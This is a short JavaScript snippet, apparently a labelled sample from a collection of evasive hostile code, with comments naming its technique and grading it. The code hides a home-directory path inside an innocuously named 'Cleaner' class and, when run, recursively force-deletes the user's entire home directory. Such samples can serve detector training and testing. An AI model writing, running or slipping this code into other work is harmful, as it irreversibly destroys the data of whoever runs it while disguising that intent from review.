// evasion: the home directory kept in this.t by the constructor and removed recursively in another method
// grade: medium; does: delete
const fs = require('fs'); const os = require('os');
class Cleaner {
  constructor() { this.t = os.homedir(); }
  run() { fs.rmSync(this.t, { recursive: true, force: true }); }
}
new Cleaner().run();
